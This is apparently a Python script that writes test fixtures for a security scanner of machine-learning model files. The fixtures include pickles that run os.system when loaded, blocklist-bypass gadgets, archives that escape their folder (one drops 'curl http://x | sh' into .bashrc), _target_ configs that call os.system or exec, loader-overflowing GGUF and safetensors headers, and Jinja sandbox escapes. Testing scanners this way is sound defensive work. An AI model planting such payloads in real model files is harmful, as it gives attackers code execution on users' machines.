"""Writes testdata/threats: one fixture (or a few) per published technique of
docs/threats.md, which names each file in its Proof column. scan/threats_test.go
scans every fixture the table names and checks it gets the row's rule.

Run it with make_threats.sh (the environment pins reproducible bytes). It needs
Debian's python3 (pickle, zipfile, tarfile: the standard library writes the
pickles, archives and configs as loaders read them) and python3-omegaconf for
the DictConfig checkpoint; the PyTorch file it cuts short is the committed
testdata/models/benign/pytorch/checkpoint.pt, read as a zip, never loaded.
GGUF and safetensors headers are written byte for byte from their
specifications.

Nothing here loads or executes a fixture: payloads are written with Reduce
(pickling a reference to os.system does not call it) or as raw opcodes.
"""

import functools
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile

from common import COMMAND, EPOCH, MODELS, Reduce

ROOT = os.path.normpath(os.path.join(MODELS, "..", "threats"))
ZIP_TIME = (1980, 1, 1, 0, 0, 0)


def put(rel, data):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    assert len(data) < 64 << 10, (rel, len(data))


def call_global(module, name, arg=COMMAND, proto=2):
    """A stream that imports module.name and calls it with one string, as
    pickle writes a Reduce of it (raw opcodes: the module may not exist here)."""
    s = arg.encode()
    return (b"\x80" + bytes([proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
            + b"X" + struct.pack("<I", len(s)) + s + b"\x85R.")


def zip_bytes(members):
    """A zip of (ZipInfo or name, data) pairs, STORED, with fixed times."""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        for info, data in members:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info, ZIP_TIME)
            z.writestr(info, data)
    return b.getvalue()


def tar_bytes(members):
    """A tar of (TarInfo, data or None) pairs, PAX, fixed times."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as t:
        for ti, data in members:
            ti.mtime, ti.uid, ti.gid, ti.uname, ti.gname = EPOCH, 0, 0, "", ""
            if data is not None:
                ti.size = len(data)
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
    return b.getvalue()


def tar_member(name, data=None, kind=tarfile.REGTYPE, link=""):
    ti = tarfile.TarInfo(name)
    ti.type, ti.linkname, ti.mode = kind, link, 0o644
    return ti, data


def rewrite_torch_zip(src, data_pkl):
    """The zip of a real torch.save file, member for member, with data.pkl
    replaced by data_pkl(original bytes)."""
    members = []
    with zipfile.ZipFile(src) as z:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = data_pkl(data)
            members.append((zipfile.ZipInfo(info.filename, ZIP_TIME), data))
    return zip_bytes(members)


# ---------------------------------------------------------------------------
# Pickles.

def pickles():
    put("pickle/reduce_os_system.pkl", pickle.dumps(Reduce(os.system, COMMAND), protocol=2))
    put("pickle/named_as_text.txt", pickle.dumps(Reduce(os.system, COMMAND), protocol=4))
    # Gadgets that picklescan's blocklist missed until its 2025 advisories.
    for module, name in [("pip", "main"), ("timeit", "timeit"), ("cProfile", "run"),
                         ("pydoc", "pipepager"), ("ensurepip", "_run_pip"), ("pkgutil", "resolve_name"),
                         ("uuid", "_get_command_stdout"), ("_io", "FileIO"), ("torch.utils.bottleneck.__main__", "run_cprofile")]:
        put(f"pickle/blocklist/{module}.{name}.pkl", call_global(module, name))
    # A zip whose local header names another member than its central
    # directory: a scanner that trusts one view misses what the other holds.
    z = zip_bytes([("archive/data.pkl", pickle.dumps(Reduce(os.system, COMMAND), protocol=2))])
    put("pickle/zip_name_mismatch.pt", z.replace(b"archive/data.pkl", b"archive/data.pkX", 1))
    # A helper that calls what it is given.
    put("pickle/partial_os_system.pkl",
        pickle.dumps(Reduce(functools.partial(os.system, COMMAND)), protocol=2))
    # nullifAI: the payload, then a broken stream, inside a PyTorch zip.
    broken = pickle.dumps(Reduce(os.system, COMMAND), protocol=2)[:-1] + b"\xff"
    put("pickle/payload_then_broken.pt",
        rewrite_torch_zip(os.path.join(MODELS, "benign/pytorch/checkpoint.pt"), lambda _: broken))
    # An opcode's argument runs past the end of its protocol 4 frame.
    ops = b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R"
    k, n = 5, 20
    frame = b"}X" + struct.pack("<I", n) + b"T" * k
    put("pickle/frame_straddle.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
        + b"a" * (n - k) + b"B" + struct.pack("<I", len(ops)) + ops + b".")
    # A protocol 4 stream cut short in its frame: no STOP.
    body = b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R"
    put("pickle/truncated_frame.joblib", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 40) + body)


# ---------------------------------------------------------------------------
# Archives that write outside their folder.

def archives():
    put("archive/dotdot.tar", tar_member_bytes("../../home/user/.bashrc", b"curl http://x | sh\n"))
    put("archive/absolute.zip", zip_bytes([("/etc/cron.d/violet", b"* * * * * root id\n")]))
    put("archive/symlink_out.tar", tar_bytes([tar_member("model/ssh", kind=tarfile.SYMTYPE, link="../../../root/.ssh")]))
    put("archive/hardlink_out.tar", tar_bytes([tar_member("model/passwd", kind=tarfile.LNKTYPE, link="../etc/passwd")]))
    link = zipfile.ZipInfo("model/ssh", ZIP_TIME)
    link.create_system = 3  # Unix
    link.external_attr = (0o120777 << 16)  # S_IFLNK | 0777
    put("archive/symlink_out.zip", zip_bytes([(link, b"../../../root/.ssh/authorized_keys")]))


def tar_member_bytes(name, data):
    return tar_bytes([tar_member(name, data)])


# ---------------------------------------------------------------------------
# Configurations that instantiate.

def configs():
    put("config/nemo_target.nemo", tar_bytes([
        tar_member("./model_config.yaml", b"name: asr\nencoder:\n  _target_: os.system\n  command: id\n"),
        tar_member("./model_weights.ckpt", pickle.dumps({"state_dict": {}}, protocol=2)),
    ]))
    put("config/config.json", json.dumps({"model": {"_target_": "builtins.exec", "source": "import os"}}, indent=2).encode())
    header = json.dumps({"__metadata__": {"format": "pt", "config": json.dumps({"_target_": "subprocess.run", "args": ["id"]})}},
                        separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    put("config/metadata_target.safetensors", struct.pack("<Q", len(header)) + header)
    put("config/hparams_target.ckpt", pickle.dumps(
        {"state_dict": {}, "hyper_parameters": {"_target_": "subprocess.run", "args": ["id"]}}, protocol=4))
    try:
        from omegaconf import OmegaConf
    except ImportError:
        sys.exit("python3-omegaconf is needed (apt-get install python3-omegaconf)")
    put("config/dictconfig_target.ckpt", pickle.dumps(
        {"state_dict": {}, "hyper_parameters": OmegaConf.create({"_target_": "os.system", "command": "id"})}, protocol=2))


# ---------------------------------------------------------------------------
# Files named as models that no format reads.

def unreadable():
    put("unreadable/cut_data_pkl.pt",
        rewrite_torch_zip(os.path.join(MODELS, "benign/pytorch/checkpoint.pt"), lambda d: d[: len(d) // 2]))
    put("unreadable/absurd_header.safetensors", b"\xff" * 7 + b"\x7f" + b'{"a":1}')
    put("unreadable/not_json.safetensors", struct.pack("<Q", 8) + b"not json")


# ---------------------------------------------------------------------------
# Headers that corrupt a loader's memory, byte for byte from the specs.

GGUF_STRING, GGUF_F32 = 8, 0


def gguf(tensors, n_tensors=None, alignment=32):
    """GGUF v3: magic, version, counts, one KV (general.architecture), then
    tensor infos (name, dims, type, offset); tensors = [(name, dims, type, offset)]."""
    def s(x):
        return struct.pack("<Q", len(x)) + x.encode()
    b = b"GGUF" + struct.pack("<I", 3)
    b += struct.pack("<QQ", len(tensors) if n_tensors is None else n_tensors, 1)
    b += s("general.architecture") + struct.pack("<I", GGUF_STRING) + s("llama")
    for name, dims, typ, off in tensors:
        b += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        b += struct.pack("<IQ", typ, off)
    b += b"\0" * (-len(b) % alignment)
    return b + b"\0" * 64


def safetensors(header):
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h


def memory():
    put("gguf/tensor_count_overflow.gguf", gguf([], n_tensors=1 << 62))
    put("gguf/element_size_wrap.gguf", gguf([("w", [1 << 32, 1 << 32, 1 << 2], GGUF_F32, 0)]))
    put("gguf/duplicate_tensor.gguf", gguf([("w", [4], GGUF_F32, 0), ("w", [4], GGUF_F32, 32)]))
    put("safetensors/shape_overflow.safetensors",
        safetensors({"w": {"dtype": "F32", "shape": [1 << 32, 1 << 32, 4], "data_offsets": [0, 0]}}))
    put("safetensors/offsets_past_end.safetensors",
        safetensors({"w": {"dtype": "F32", "shape": [1 << 20], "data_offsets": [0, 4 << 20]}}))


# ---------------------------------------------------------------------------
# Chat templates and remote code.

def templates():
    put("template/concat_attr.jinja",
        b"{% set c = ''|attr('__cla' ~ 'ss__') %}{{ c|attr('__ba' ~ 'se__')|attr('__subcl' ~ 'asses__')() }}\n")
    put("template/format_string.jinja",
        b"{{ '{0.__init__.__globals__[os].popen}'.format(cycler) }}\n")
    put("hf-remote-code/cross_repo/config.json", json.dumps({
        "architectures": ["EvilModel"], "model_type": "evil",
        "auto_map": {"AutoModel": "attacker/other-repo--modeling_evil.EvilModel"}}, indent=2).encode())


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    pickles()
    archives()
    configs()
    unreadable()
    memory()
    templates()
    with open(os.path.join(ROOT, "README.md"), "w") as f:
        f.write(README)


README = """# testdata/threats

One fixture (or a few) per published technique of [docs/threats.md](../../docs/threats.md), whose Proof column names
each file; `scan/threats_test.go` scans every file the table names and checks that it gets one of the row's rules and
a failing exit code. Made by `testdata/gen/make_threats.sh` (`gen_threats.py`); never edit by hand, never load: every
pickle here runs a command when loaded.
"""

if __name__ == "__main__":
    main()
